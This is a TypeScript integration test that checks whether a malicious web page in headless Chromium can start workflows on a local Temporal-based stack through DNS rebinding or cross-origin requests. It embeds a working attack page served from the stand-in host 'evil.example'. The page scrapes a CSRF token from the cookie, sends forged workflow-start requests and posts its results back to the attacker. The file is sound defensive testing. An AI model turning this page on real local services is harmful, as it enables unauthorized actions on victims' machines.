import { spawn } from 'node:child_process';
import { mkdtemp, readFile, readdir, readlink, rm } from 'node:fs/promises';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { WorkflowNotFoundError } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { connectClient, type ServerLink } from '../../src/client.js';
import { WORKFLOWS } from '../../src/domain/names.js';
import { layoutOf } from '../../src/host/paths.js';
import { signalIfThere, terminate, waitUntil } from '../../src/host/process.js';
import { findStack, joinStack, type StackUse } from '../../src/stack/membership/join.js';
import type { StackRecord } from '../../src/stack/membership/record.js';
import { sealingKey } from '../../src/temporal/key.js';
import { toolIsHere } from '../unit/reports/tool.js';
import { CLI } from './bench.js';

vi.setConfig({ testTimeout: 240_000 });
/** The name of a page that came from elsewhere, and is bound to this host after it was loaded. */
const EVIL = 'evil.example';
let folder: string;
let lease: StackUse;
let stack: StackRecord;
let link: ServerLink;

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'nixproof-page-'));
  const layout = layoutOf(path.join(folder, 'home'));
  const work = { signal: new AbortController().signal, progress: () => undefined };
  lease = await joinStack({ layout, work, holderCommand: [process.execPath, CLI, 'stack'] });
  stack = (await findStack(layout)) as StackRecord;
  link = await connectClient({ address: lease.address }, await sealingKey(layout));
});
afterAll(async () => {
  await link[Symbol.asyncDispose]();
  await lease[Symbol.asyncDispose]();
  await terminate(stack.holder, 20_000);
  await rm(folder, { recursive: true, force: true, maxRetries: 5 });
});

interface Listener {
  readonly host: string;
  readonly port: number;
}

/** Where the stack listens on IPv4, as /proc/net/tcp of its processes has it (proc(5)). */
async function listeners(): Promise<readonly Listener[]> {
  const sockets = new Set<string>();
  for (const { pid } of [stack.holder, stack.server, stack.worker]) {
    for (const fd of await readdir(`/proc/${pid}/fd`)) {
      const target = await readlink(`/proc/${pid}/fd/${fd}`).catch(() => '');
      sockets.add(/^socket:\[(\d+)\]$/.exec(target)?.[1] ?? '');
    }
  }
  const table = (await readFile('/proc/net/tcp', 'utf8')).split('\n').map((line) => line.trim().split(/\s+/));
  return table.flatMap(([, local = '', , state, , , , , , inode = '']) => {
    if (state !== '0A' || !sockets.has(inode)) return [];
    const [address = '', port = ''] = local.split(':');
    return [{ host: [...Buffer.from(address, 'hex').reverse()].join('.'), port: parseInt(port, 16) }];
  });
}

/**
 * What a page tries on the port that it came from: everything with which a workflow could be
 * started.
 */
const attack = (own: boolean, ports: readonly number[]) => `<!doctype html>
${ports.map((port) => `<iframe src="http://${EVIL}:${port}/attack"></iframe>`).join('')}
<script>
const start = async (base, name, headers) => {
  try {
    const body = JSON.stringify({ workflowType: { name: '${WORKFLOWS.suite}' }, taskQueue: { name: 'nixproof' } });
    const answer = await fetch(base + '/api/v1/namespaces/default/workflows/' + name, { method: 'POST', headers, body });
    return answer.status;
  } catch (error) { return String(error); }
};
const quietly = (way) => way.catch(() => undefined);
(async () => {
  const tried = [];
  if (${own}) {
    await quietly(fetch('/'));
    const token = /_csrf=([^;]+)/.exec(document.cookie)?.[1] ?? '';
    const port = location.port;
    tried.push(await start('', 'page-' + port + '-own', { 'X-CSRF-Token': token, 'Content-Type': 'application/json' }));
    tried.push(await start('', 'page-' + port + '-bearer', { Authorization: 'Bearer x', 'Content-Type': 'application/json' }));
  } else {
    for (const port of ${JSON.stringify(ports)}) for (const host of ['127.0.0.1', 'localhost']) {
      const base = 'http://' + host + ':' + port;
      const name = 'page-' + port + '-' + host;
      tried.push(await start(base, name + '-json', { Authorization: 'Bearer x', 'Content-Type': 'application/json' }));
      tried.push(await start(base, name + '-plain', { 'Content-Type': 'text/plain' }));
      await quietly(fetch(base + '/api/v1/namespaces/default/workflows/' + name + '-blind', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }));
    }
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(tried) });
})();
</script>`;

/**
 * The way of a page's requests: the first for each port is answered by the attacker, the others by
 * who listens there.
 */
async function openWay(target: (port: number) => Listener, ports: readonly number[]) {
  const reports = new Map<number, readonly unknown[]>();
  const server: Server = createServer((asked, answer) => {
    const { hostname, port: given, pathname } = new URL(asked.url ?? '/');
    const port = Number(given || 80);
    if (hostname !== EVIL) answer.writeHead(404).end();
    else if (pathname === '/attack') {
      const page = port === 80 ? attack(false, ports) : attack(true, []);
      answer.writeHead(200, { 'content-type': 'text/html' }).end(page);
    } else if (pathname === '/report') {
      void new Response(asked as unknown as ReadableStream).text().then((text) => {
        reports.set(port, JSON.parse(text) as unknown[]);
        answer.writeHead(200).end();
      });
    } else {
      const { method, headers } = asked;
      const passed = request({ ...target(port), method, path: pathname, headers }, (reply) => {
        answer.writeHead(reply.statusCode ?? 502, reply.headers);
        reply.pipe(answer);
      });
      passed.on('error', () => answer.destroy());
      asked.pipe(passed);
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, reports, port: (server.address() as AddressInfo).port };
}

/**
 * Opens the attacker's page in Chromium under its own port and those ports; gives what each of them
 * was told.
 */
async function visit(ports: readonly number[], target: (port: number) => Listener) {
  const { server, reports, port } = await openWay(target, ports);
  const profile = await mkdtemp(path.join(folder, 'profile-'));
  const flags = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'];
  // A page may ask for any port but those of well-known services.
  const open = `--explicitly-allowed-ports=${ports.join(',')}`;
  // Chromium without a window opens one page: that has the others in frames.
  const page = `http://${EVIL}/attack`;
  const own = [`--user-data-dir=${profile}`, `--proxy-server=127.0.0.1:${port}`, open, '--remote-debugging-port=0'];
  const browser = spawn('chromium', [...flags, ...own, page], { stdio: 'ignore', detached: true });
  try {
    await waitUntil(async () => reports.size === ports.length + 1, 120_000);
    return reports;
  } finally {
    signalIfThere(-(browser.pid ?? 0), 'SIGKILL');
    server.closeAllConnections();
    server.close();
  }
}

/** Which workflows with these names there are. */
async function existing(names: readonly string[]): Promise<readonly string[]> {
  const found = await Promise.all(
    names.map(async (name) => {
      try {
        await link.client.workflow.getHandle(name).describe();
        return [name];
      } catch (error) {
        if (error instanceof WorkflowNotFoundError) return [];
        throw error;
      }
    }),
  );
  return found.flat();
}

const rebound = (port: number) => ['own', 'bearer'].map((way) => `page-${port}-${way}`);
const direct = (port: number) =>
  ['127.0.0.1', 'localhost'].flatMap((host) => ['json', 'plain', 'blind'].map((way) => `page-${port}-${host}-${way}`));

describe.runIf(await toolIsHere('chromium', ['--version']))('a page in Chromium', () => {
  test('starts nothing through any port of the stack, whether its name is bound to this host or not', async () => {
    const ports = (await listeners()).map(({ port }) => port);
    expect(ports.length).toBeGreaterThanOrEqual(4);
    const reports = await visit(ports, (port) => ({ host: '127.0.0.1', port }));
    expect([...reports.keys()].sort((a, b) => a - b)).toEqual([80, ...ports].sort((a, b) => a - b));
    expect([...reports.values()].flat()).not.toContain(200);
    expect(await existing(ports.flatMap((port) => [...rebound(port), ...direct(port)]))).toEqual([]);
  });

  test('starts one where nothing checks the host, as on the address that it cannot know; nothing runs', async () => {
    const hidden = (await listeners()).find(({ host }) => host !== '127.0.0.1');
    if (!hidden) throw new Error('the UI has no address of its own');
    const reports = await visit([hidden.port], () => hidden);
    expect(reports.get(hidden.port)).toContain(200);
    const names = await existing(rebound(hidden.port));
    expect(names).not.toEqual([]);
    for (const name of names) {
      const result = link.client.workflow.getHandle(name).result();
      await expect(result).rejects.toMatchObject({ cause: { type: 'REQUEST_UNSEALED' } });
    }
  });
});
